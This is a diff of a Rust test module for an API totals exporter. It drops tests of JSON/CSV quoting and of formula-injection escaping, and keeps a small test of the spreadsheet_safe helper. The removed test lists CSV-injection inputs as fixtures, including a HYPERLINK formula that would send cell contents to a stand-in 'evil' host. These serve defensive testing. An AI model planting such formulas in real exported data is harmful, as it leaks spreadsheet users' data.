@@ -196,77 +196,12 @@ impl Serialize for JsonRow<'_> {
 
 #[cfg(test)]
 mod tests {
-    use count_core::{DateRange, Day, Endpoint, Method, Status, Subject};
+    use super::spreadsheet_safe;
 
-    use super::*;
-
+    /// Tab and carriage return are refused in paths and subjects, so no answer can
+    /// show this rule on them (tests/http_api.rs shows the others).
     #[test]
-    fn every_dimension_in_its_place_with_nulls_and_quoting() {
-        let day = Day::new(2026, 11, 27).unwrap();
-        let query = TotalsQuery::new(DateRange::day(day), &Dimension::ALL).unwrap();
-        let endpoint = Endpoint::parse(Method::Post, "/a \"b\"").unwrap();
-        let rows = [
-            GroupedTotal::new(1).with_day(day).with_endpoint(endpoint),
-            GroupedTotal::new(2)
-                .with_day(day)
-                .with_endpoint(endpoint)
-                .with_subject(Some(Subject::new("acme, inc").unwrap()))
-                .with_status(Some(Status::http(503).unwrap())),
-        ];
-        assert_eq!(
-            totals_json(&query, &rows),
-            concat!(
-                r#"[{"day":"2026-11-27","method":"POST","path":"/a \"b\"","subject":null,"status":null,"total":1},"#,
-                r#"{"day":"2026-11-27","method":"POST","path":"/a \"b\"","subject":"acme, inc","status":503,"total":2}]"#
-            )
-        );
-        assert_eq!(
-            totals_csv(&query, &rows),
-            "day,method,path,subject,status,total\r\n\
-             2026-11-27,POST,\"/a \"\"b\"\"\",,,1\r\n\
-             2026-11-27,POST,\"/a \"\"b\"\"\",\"acme, inc\",503,2\r\n"
-        );
-        assert_eq!(totals_json(&query, &[]), "[]");
-        assert_eq!(
-            totals_csv(&query, &[]),
-            "day,method,path,subject,status,total\r\n"
-        );
-    }
-
-    #[test]
-    fn cells_a_spreadsheet_would_run_start_with_a_quote() {
-        let day = Day::new(2026, 11, 27).unwrap();
-        let query = TotalsQuery::new(
-            DateRange::day(day),
-            &[Dimension::Endpoint, Dimension::Subject],
-        )
-        .unwrap();
-        let row = |path: &str, subject: &str| {
-            GroupedTotal::new(1)
-                .with_endpoint(Endpoint::parse(Method::Get, path).unwrap())
-                .with_subject(Some(Subject::new(subject).unwrap()))
-        };
-        let rows = [
-            row("=HYPERLINK(\"http://evil/\"&A1,\"x\")", "=1+1"),
-            row("+cmd", "-2+3"),
-            row("@SUM(A1)", "a=b"),
-            row("/users/-1", "@team"),
-        ];
-        assert_eq!(
-            totals_csv(&query, &rows),
-            "method,path,subject,total\r\n\
-             GET,\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\",'=1+1,1\r\n\
-             GET,'+cmd,'-2+3,1\r\n\
-             GET,'@SUM(A1),a=b,1\r\n\
-             GET,/users/-1,'@team,1\r\n"
-        );
-        // The JSON keeps every text as it is.
-        assert!(
-            totals_json(&query, &rows)
-                .contains(r#""path":"=HYPERLINK(\"http://evil/\"&A1,\"x\")","subject":"=1+1""#)
-        );
-        // Tab and carriage return are refused in paths and subjects; the rule still
-        // covers them.
+    fn cells_starting_with_a_tab_or_return_start_with_a_quote() {
         assert_eq!(spreadsheet_safe("\tx".to_owned()), "'\tx");
         assert_eq!(spreadsheet_safe("\rx".to_owned()), "'\rx");
         assert_eq!(spreadsheet_safe("x=1".to_owned()), "x=1");
